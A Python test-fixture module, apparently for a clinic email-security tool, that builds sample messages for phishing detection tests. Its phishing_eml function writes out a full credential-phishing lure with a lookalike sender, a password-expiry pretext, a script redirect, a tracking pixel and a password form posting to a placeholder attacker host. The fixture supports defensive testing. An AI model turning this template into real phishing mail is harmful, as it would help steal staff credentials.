"""Small crafted messages for the phishing tests (never real mail from the dataset)."""

from __future__ import annotations

from carewall.phishing.simulation.marker import sign

PHISH_URL = "https://evil-login.example/verify"
PHISH_DEFANGED = "hxxps://evil-login[.]example/verify"
#: A string only the phishing body contains, to prove it is not stored in clear.
BODY_MARKER = "Patient Zelda Quackenbush MRN 4417"


def phishing_eml(
    *, marker: str = BODY_MARKER, date: str = "Mon, 23 Nov 2026 09:00:00 +0000"
) -> bytes:
    """An HTML credential-phishing mail with a script, a form, a remote image and a marker."""
    return f"""From: "IT Helpdesk" <helpdesk@micros0ft-support.example>
Reply-To: collect@drop-box.example
To: nurse@clinic.example
Subject: Urgent: your mailbox password expires today
Date: {date}
Message-ID: <p1@micros0ft-support.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body {{ background: url(https://tracker.example/bg.png) }}</style>
<script>document.location='https://evil-login.example/js'</script></head><body>
<p>Your mailbox password expires today. <a href="{PHISH_URL}">Verify your account</a> now
or you will lose access to email. {marker}</p>
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<form action="https://evil-login.example/collect"><input type="password" name="password"></form>
<iframe src="https://evil-login.example/frame"></iframe>
</body></html>
""".replace("\n", "\r\n").encode()


def clean_eml(subject: str = "Staff meeting moved to Thursday") -> bytes:
    """A plain, harmless internal message."""
    return f"""From: Jane Roe <jane.roe@clinic.example>
To: team@clinic.example
Subject: {subject}
Date: Mon, 23 Nov 2026 09:00:00 +0000
Message-ID: <c1@clinic.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Hi all, the staff meeting moves to Thursday at 12:30 in room 2.
Jane
""".replace("\n", "\r\n").encode()


def simulation_eml(key: bytes | None = None) -> bytes:
    """A message from Carewall's own phishing simulation, its marker signed with `key`.

    Without a key the header is unsigned, which is what a forger would write.
    """
    value = (
        sign(key, "7e1c3a52-0000-4000-8000-000000000007", "campaign7recipient0001")
        if key
        else "campaign-7"
    )
    return f"X-Carewall-Simulation: {value}\r\n".encode() + phishing_eml(marker="simulated")


def forwarded(original: bytes, forwarder: str) -> bytes:
    """``original`` forwarded as an attachment (message/rfc822), as Outlook does."""
    head = (
        f"From: {forwarder}\r\nTo: phishing@clinic.example\r\nSubject: FW: suspicious\r\n"
        "Date: Mon, 23 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        "--b1\r\nContent-Type: text/plain\r\n\r\nThis looks fake.\r\n"
        "--b1\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n"
    ).encode()
    return head + original + b"\r\n--b1--\r\n"
